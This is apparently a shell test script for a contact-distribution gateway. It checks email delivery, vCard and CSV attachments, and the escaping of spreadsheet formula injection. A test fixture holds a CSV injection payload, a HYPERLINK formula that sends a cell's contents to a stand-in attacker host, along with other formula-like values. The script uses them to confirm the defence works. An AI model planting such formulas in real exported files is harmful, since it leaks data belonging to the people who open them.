# `ctcgw distribute contacts` over examples/contacts.csv into a maildir:
# sink; every message, its CSV and its vCard attachments read back with
# independent parsers (Python's email and csv modules, python3-vobject).
. "${CTCGW_SRCDIR:-.}/tests/lib.sh"

need_ctcgw
make_tmpdir

# Debian's python3-vobject is installed for Debian's python3, which may not
# be the first python3 on PATH.
PY=
for candidate in /usr/bin/python3 python3; do
    if "$candidate" -c 'import vobject' >/dev/null 2>&1; then
        PY=$candidate
        break
    fi
done
[ -n "$PY" ] || skip_all "python3-vobject is not installed (autogen.sh installs it)"

CONF="$TMP/ctcgw.conf"
SINK="$TMP/sink"
cat >"$CONF" <<EOF
[gateway]
database = $TMP/db.sqlite
address = gateway@CTC.example
name = CTC Executive Directorate

[smtp]
url = maildir:$SINK
[authentication]
require = none
EOF
mkdir -p "$SINK/new" "$SINK/cur" "$SINK/tmp"

ctcgw () {
    "$CTCGW" -c "$CONF" "$@"
}

check "init" 0 ctcgw init
check "import the example contact points" 0 ctcgw import contacts "$CTCGW_SRCDIR/examples/contacts.csv"
check_out "all of them" '^imported 14 of 14 rows$'

# --- usage ------------------------------------------------------------------
check "distribute --help" 0 ctcgw distribute --help
check_out "it names --to" '--to'
check "distribute without what" 64 ctcgw distribute
check "a misspelt distribution" 64 ctcgw distribute contcts
check_err "is named with the closest" 'did you mean "contacts"'
check "a misspelt audience" 64 ctcgw distribute contacts --to stats
check_err "is named with the closest" 'did you mean "states"'
check "an unknown group" 64 ctcgw distribute contacts --to group:Nowhere
check_err "is named" 'unknown group "Nowhere"'
check "a bad audience queues nothing" 0 test "$(sqlite3 "$TMP/db.sqlite" 'SELECT count(*) FROM outbox')" = 0

# --- one audience -----------------------------------------------------------
check "distribute to two entities" 0 ctcgw distribute contacts --to entities:KG,unodc
check_out "three recipients" '^queued 3 messages'

# --- everyone, delivered to the maildir sink --------------------------------
check "distribute to all" 0 ctcgw distribute contacts
check_out "fourteen recipients" '^queued 14 messages'
check "deliver the outbox" 0 ctcgw run --once
check "seventeen messages delivered" 0 test "$(ls "$SINK/new" | wc -l)" -eq 17
check "export contacts --format vcard" 0 ctcgw export contacts --format vcard -o "$TMP/contacts.vcf"

cat >"$TMP/read.py" <<'EOF'
import csv, email, io, os, re, sys
from email import policy
import vobject

sink, examples, exported = sys.argv[1:4]
with open(examples, newline='', encoding='utf-8') as f:
    example_rows = list(csv.DictReader(f))
fields = ['Entity', 'Name', 'Email', 'Title', 'Office', 'Phone', 'Languages', 'Role', 'Areas']
problems = []

def check(ok, what):
    if not ok:
        problems.append(what)

def read_vcards(data, where):
    check(data.endswith(b'\r\n'), where + ': ends with CRLF')
    for line in data.split(b'\r\n'):
        check(len(line) <= 75, where + ': a line longer than 75 octets')
        check(b'\n' not in line and b'\r' not in line, where + ': a bare line break')
    cards = list(vobject.readComponents(data.decode('utf-8'), validate=True))
    for card in cards:
        check(card.version.value == '4.0', where + ': VERSION 4.0')
        check(card.kind.value == 'individual', where + ': KIND')
        check(card.uid.value.startswith('urn:uuid:'), where + ': UID')
        for name in ('fn', 'n', 'org', 'email', 'rev'):
            check(name in card.contents, where + ': no ' + name)
    check(len({c.uid.value for c in cards}) == len(cards), where + ': UIDs unique')
    return cards

def guarded(value):
    """The cell that ctcgw(8) writes for value: after an apostrophe when a
    spreadsheet would read it as a formula."""
    rest = value.lstrip("'")
    return "'" + value if rest and rest[0] in '=+-@\t\r' else value

def read_csv(text, where):
    rows = list(csv.reader(io.StringIO(text, newline='')))
    check(rows[0] == fields, where + ': header ' + repr(rows[0]))
    for row in rows[1:]:
        for cell in row:
            check(not cell or cell[0] not in '=+-@\t\r', where + ': a formula ' + repr(cell))
    return [dict(zip(fields, row)) for row in rows[1:]]

def read_message(path):
    with open(path, 'rb') as f:
        msg = email.message_from_binary_file(f, policy=policy.default)
    where = os.path.basename(path)
    check(msg['Auto-Submitted'] == 'auto-generated', where + ': Auto-Submitted')
    check(msg['List-Id'] == '<contacts.ctc.example>', where + ': List-Id ' + str(msg['List-Id']))
    check(msg['Precedence'] == 'bulk', where + ': Precedence')
    check(msg['X-Auto-Response-Suppress'] == 'OOF, AutoReply', where + ': X-Auto-Response-Suppress')
    check(msg.get_content_type() == 'multipart/mixed', where + ': multipart/mixed')
    # An Arabic text's lines start with an invisible RLM (ctcgw(8)).
    body = msg.get_body(('plain',)).get_content().replace('\u200f', '')
    check(all(len(line) <= 76 for line in body.splitlines()), where + ': body wider than 76')
    parts = {p.get_filename(): p for p in msg.iter_attachments()}
    check(sorted(parts) == ['contacts.csv', 'contacts.vcf'], where + ': ' + repr(sorted(parts)))
    check(parts['contacts.vcf'].get_content_type() == 'text/vcard', where + ': text/vcard')
    check(parts['contacts.csv'].get_content_type() == 'text/csv', where + ': text/csv')
    vcf = parts['contacts.vcf'].get_payload(decode=True)
    csv_text = parts['contacts.csv'].get_payload(decode=True).decode('utf-8')
    return msg, body, read_vcards(vcf, where), read_csv(csv_text, where), vcf

def table_emails(body):
    """The Email column of the text table: an address is never broken, and
    one too wide for its column is alone on the line after its row.  An
    Arabic text's lines begin with a RIGHT-TO-LEFT MARK (ctcgw(8))."""
    lines = [line.lstrip('\u200f') for line in body.splitlines()]
    rule = next(i for i, line in enumerate(lines) if line.startswith('  ---'))
    spans = [m.span() for m in re.finditer(r'-+', lines[rule])]
    emails = []
    for line in lines[rule + 1:]:
        if not line.startswith('  '):
            if line.strip() == '' and emails:
                break
            continue
        role = line[spans[1][0]:spans[1][1]].strip()
        email = line[spans[2][0]:spans[2][1]].strip()
        alone = line.strip()
        if ' ' not in alone and '@' in alone and emails and not emails[-1]:
            emails[-1] = alone
        elif role:
            emails.append(email)
        else:
            check(not email, 'an address broken: ' + email)
    return emails

recipients = []
for name in sorted(os.listdir(os.path.join(sink, 'new'))):
    msg, body, cards, rows, vcf = read_message(os.path.join(sink, 'new', name))
    recipients.append(msg['To'].addresses[0].addr_spec)
    where = name
    check(len(cards) == len(example_rows) == len(rows), where + ': %d cards, %d rows' % (len(cards), len(rows)))
    check([r['Entity'] for r in rows] == sorted(r['Entity'] for r in rows), where + ': sorted by entity')
    check(sorted(r['Email'] for r in rows) == sorted(r['Email'] for r in example_rows), where + ': the emails')
    check([c.email.value for c in cards] == [r['Email'] for r in rows], where + ': cards in the order of rows')
    check(table_emails(body) == [r['Email'] for r in rows], where + ': the table\'s addresses')
    with open(exported, 'rb') as f:
        check(f.read() == vcf, where + ': export --format vcard differs from the attachment')
    by_email = {r['Email']: r for r in example_rows}
    for card, row in zip(cards, rows):
        example = by_email[row['Email']]
        for key in ('Name', 'Title', 'Office', 'Phone', 'Role'):
            check(row[key] == guarded(example[key]), where + ': CSV %s of %s' % (key, row['Email']))
        check(card.fn.value == example['Name'], where + ': FN ' + card.fn.value)
        check(card.title.value == example['Title'], where + ': TITLE of ' + row['Email'])
        check(card.tel.value == example['Phone'], where + ': TEL of ' + row['Email'])
        org = card.org.value
        check(org[-1] == example['Office'], where + ': ORG unit %r' % (org,))
        langs = [l.value for l in card.contents.get('lang', [])]
        check(langs == [l.strip() for l in example['Languages'].split(',')], where + ': LANG %r' % langs)

check(len(recipients) == 17, 'recipients: %d' % len(recipients))
check(sorted(set(recipients)) == sorted(r['Email'] for r in example_rows), 'every contact point got it')
for p in problems[:40]:
    print(p)
sys.exit(1 if problems else 0)
EOF
check_true "every message, CSV and vCard reads back" \
    "$PY" "$TMP/read.py" "$SINK" "$CTCGW_SRCDIR/examples/contacts.csv" "$TMP/contacts.vcf"

# --- formulas: the CSV that every contact point gets, imported again --------
# A contact point's values that a spreadsheet would read as formulas are
# written after an apostrophe, and an import takes it off (ctcgw(8), CSV
# AND SPREADSHEETS).
cat >"$TMP/formulas.csv" <<'EOF'
Entity,Name,Email,Title,Office,Phone
KZ,-Formula Person,formula@mfa.kz.example,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",@SUM(A1:A9),+7 727 123 4567
KZ,Quoted Person,quoted@mfa.kz.example,'quoted',''=1+1,
EOF
check "import contact points whose values look like formulas" 0 ctcgw import contacts "$TMP/formulas.csv"
rm -f "$SINK/new/"*
check "distribute to them" 0 ctcgw distribute contacts --to entities:KZ
check "deliver" 0 ctcgw run --once
cat >"$TMP/cells.py" <<'EOF'
import csv, email, io, os, sqlite3, sys
from email import policy

COLUMNS = 'entity, name, email, title, office, phone, languages, role, areas'

def attachment(sink, out):
    """Writes the contacts.csv of a message of sink to out."""
    name = sorted(os.listdir(os.path.join(sink, 'new')))[0]
    with open(os.path.join(sink, 'new', name), 'rb') as f:
        msg = email.message_from_binary_file(f, policy=policy.default)
    part = [p for p in msg.iter_attachments() if p.get_filename() == 'contacts.csv'][0]
    with open(out, 'wb') as f:
        f.write(part.get_payload(decode=True))

def cell(path, address, column):
    with open(path, newline='', encoding='utf-8') as f:
        return [r for r in csv.DictReader(f) if r['Email'] == address][0][column]

def register(db):
    con = sqlite3.connect(db)
    return con.execute('SELECT ' + COLUMNS + ' FROM contacts'
                       " WHERE state = 'active' ORDER BY email").fetchall()

what = sys.argv[1]
if what == 'attachment':
    attachment(sys.argv[2], sys.argv[3])
elif what == 'cell':
    sys.exit(0 if cell(sys.argv[2], sys.argv[3], sys.argv[4]) == sys.argv[5] else 1)
elif what == 'same':
    a, b = register(sys.argv[2]), register(sys.argv[3])
    for x, y in zip(a, b):
        if x != y:
            print(x, y, sep='\n')
    sys.exit(0 if a == b and len(a) == 16 else 1)
EOF
cells () {
    "$PY" "$TMP/cells.py" "$@"
}
check_true "the contacts.csv of a message" cells attachment "$SINK" "$TMP/distributed.csv"
check_true "the formula is written after an apostrophe" cells cell "$TMP/distributed.csv" \
    formula@mfa.kz.example Title "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
check_true "so is the name that begins with a minus" cells cell "$TMP/distributed.csv" \
    formula@mfa.kz.example Name "'-Formula Person"
check_true "and the telephone number" cells cell "$TMP/distributed.csv" \
    formula@mfa.kz.example Phone "'+7 727 123 4567"
check_true "a value that begins with an apostrophe is written as it is" cells cell \
    "$TMP/distributed.csv" quoted@mfa.kz.example Title "'quoted'"
check_true "unless a formula follows the apostrophe" cells cell \
    "$TMP/distributed.csv" quoted@mfa.kz.example Office "''=1+1"
check "the register keeps the formula as sent" 0 test \
    "$(sqlite3 "$TMP/db.sqlite" "SELECT title FROM contacts WHERE email = 'formula@mfa.kz.example'")" \
    = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
sed "s|$TMP/db.sqlite|$TMP/again.sqlite|" "$CONF" >"$TMP/again.conf"
check "init a second database" 0 "$CTCGW" -c "$TMP/again.conf" init
check "import the distributed contacts.csv into it" 0 \
    "$CTCGW" -c "$TMP/again.conf" import contacts "$TMP/distributed.csv"
check_out "every contact point of it" '^imported 16 of 16 rows$'
check_true "every value comes back as it is in the register" \
    cells same "$TMP/db.sqlite" "$TMP/again.sqlite"

finish
